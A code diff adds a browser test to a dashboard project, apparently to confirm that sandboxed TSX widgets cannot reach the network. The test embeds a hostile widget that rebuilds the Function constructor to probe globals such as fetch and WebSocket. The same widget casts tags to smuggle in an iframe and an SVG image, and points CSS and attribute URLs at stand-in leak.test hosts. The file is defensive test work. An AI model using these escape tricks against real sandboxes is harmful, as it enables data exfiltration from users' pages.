@@ -28,6 +28,7 @@ from tests.conftest import service_missing
 from tests.e2e.conftest import CHROMIUM, CHROMIUM_ARGS, VIEWPORT
 from tests.e2e.test_pages import add_widget, open_dashboard
 from widgets.models import Dashboard
+from widgets.services.tsx import tsx_checker_available, tsx_compile
 
 pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
 
@@ -182,6 +183,33 @@ function Widget() {
   return React.createElement("p", null, n);
 }""",
 }
+
+# Ways past the static checker that it lets through (implicit any from JSON.parse, computed keys, Reflect, a tag
+# chosen at run time, `as unknown as`): this goes through the real checker, and the runtime holds for each.
+CHECKED_PROPS_TS = "interface Row { region: string | null; claim_count: number | null }\ninterface Props { rows: Row[] }\n"
+CHECKED_SIDESTEPS_TSX = r"""
+function Widget(props: Props) {
+  const key = ["constr", "uctor"].join("");
+  const MakeFunction = JSON.parse("{}")[key][key];
+  const found: string[] = [];
+  for (const name of ["window", "document", "fetch", "XMLHttpRequest", "WebSocket", "postMessage", "importScripts",
+      "setTimeout", "navigator", "location", "self", "Worker", "WebAssembly", "console"]) {
+    found.push(name + ":" + String(MakeFunction("return typeof " + name)()));
+  }
+  const global = MakeFunction("return this")();
+  found.push("reflect:" + typeof Reflect.get(global, "fetch"));
+  const frame = ["ifr", "ame"].join("") as unknown as "div";
+  const image = ["im", "age"].join("") as unknown as "rect";
+  const style = { background: "url(http://style.leak.test/" + props.rows.length + ")" } as unknown as { color: string };
+  const attrs = JSON.parse('{"src": "http://json.leak.test/", "href": "http://href.leak.test/"}');
+  return React.createElement("div", null,
+    React.createElement("p", { "data-testid": "allowed" }, found.join(" ")),
+    React.createElement(frame, { src: "http://tag.leak.test/" } as unknown as { title: string }, "frame"),
+    React.createElement("svg", null, React.createElement(image, { href: "http://image.leak.test/" } as unknown as { x: number })),
+    React.createElement("div", { "data-testid": "styled", style }, "styled"),
+    React.createElement("div", attrs, "attributes"));
+}
+"""
 
 # Trees the frame takes long to build or lay out, on the main thread every sandboxed frame of the page shares.
 COSTLY = {
@@ -606,6 +634,26 @@ def test_trees_costly_to_draw_are_refused_clamped_or_stopped_by_the_frame(
     cell = frame_of(page, "wide table").get_by_test_id("allowed").locator("td").first
     expect(cell).to_have_attribute("colspan", "32")
     expect(cell).to_have_attribute("rowspan", "32")
+    assert_contained(page, proxy, requests, live_server, access_log)
+
+
+def test_what_the_checker_lets_through_reaches_nothing_at_run_time(
+    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
+) -> None:
+    reason = tsx_checker_available()
+    if reason:
+        service_missing(f"TSX checker unavailable: {reason}")
+    js = tsx_compile(tsx=CHECKED_SIDESTEPS_TSX, props_ts=CHECKED_PROPS_TS).js
+    page, requests = open_hostile(proxied_browser, proxy, live_server, board, {"Checked": js})
+
+    frame = frame_of(page, "Checked")
+    found = frame.get_by_test_id("allowed")
+    expect(found).to_contain_text("reflect:")
+    assert set(re.findall(r":(\w+)", found.text_content() or "")) == {"undefined"}, found.text_content()
+    expect(frame.get_by_test_id("styled")).to_have_text("styled")
+    assert frame.get_by_test_id("styled").get_attribute("style") is None
+    expect(frame.locator("#root")).not_to_contain_text("frame")
+    expect(frame.locator("#root svg")).to_be_empty()
     assert_contained(page, proxy, requests, live_server, access_log)
 
 
